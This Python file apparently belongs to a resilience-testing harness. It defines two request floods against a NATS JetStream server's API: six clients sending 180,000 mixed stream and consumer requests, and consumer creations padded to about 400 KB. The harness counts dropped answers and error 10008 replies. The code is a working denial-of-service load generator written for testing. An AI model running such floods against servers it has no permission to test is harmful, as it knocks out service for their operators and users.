"""Floods of the JetStream API: many clients that send more requests than the server can answer in time."""

from __future__ import annotations

import time

from attacks.api import INFO, STREAM
from attacks.attack import Victim, attack
from attacks.client import Client

FLOODERS = 6
SILENT_S = (
    2.0  # a flood is over when no answer has arrived for this time: nats-server drops requests silently
)


def _flood(victim: Victim, clients: list[Client], calls: list[list[bytes]]) -> None:
    """Send the requests of all clients at once, and count the answers until no more arrive."""
    for client, own in zip(clients, calls, strict=True):
        client.queue(b"".join(own))
    asked, last, since = sum(map(len, calls)), -1, time.monotonic()

    def answered() -> int:
        return sum(client.count for client in clients)

    def over() -> bool:
        nonlocal last, since
        if answered() != last or not all(client.sent for client in clients):
            last, since = answered(), time.monotonic()
        return last >= asked or time.monotonic() - since > SILENT_S

    victim.drive(clients, over)
    victim.count(asked, answered())
    refused = sum(b'"err_code":10008' in body for client in clients for _, _, body in client.messages)
    if refused:
        victim.note(
            f"{refused:,} of {answered():,} answers are error 10008, {asked - answered():,} are missing"
        )


def _call(client: Client, number: int) -> bytes:
    if number % 3 == 0:
        return client.call(INFO)
    if number % 3 == 1:
        body = {"name": STREAM, "subjects": ["load.>"], "allow_direct": True, "max_msgs": 10_000_000 + number}
        return client.call(f"$JS.API.STREAM.UPDATE.{STREAM}", body)
    config = {"durable_name": "c", "ack_policy": "explicit", "max_ack_pending": 1_000 + number % 7}
    subject = f"$JS.API.CONSUMER.DURABLE.CREATE.{STREAM}.c"
    return client.call(subject, {"stream_name": STREAM, "config": config})


@attack(
    "180,000 API requests of six clients: STREAM.INFO, STREAM.UPDATE, CONSUMER.CREATE",
    setup=lambda v: v.fill(1_000),
)
def api_flood(victim: Victim) -> None:
    clients = victim.clients(FLOODERS)
    _flood(victim, clients, [[_call(client, number) for number in range(30_000)] for client in clients])


@attack("900 CONSUMER.CREATE of 400 KB of six clients", setup=lambda v: v.fill(1_000))
def api_flood_large(victim: Victim) -> None:
    clients = victim.clients(FLOODERS)
    body = {"stream_name": STREAM, "config": {"durable_name": "c", "description": "x" * 400_000}}
    subject = f"$JS.API.CONSUMER.DURABLE.CREATE.{STREAM}.c"
    _flood(victim, clients, [[client.call(subject, body)] * 150 for client in clients])
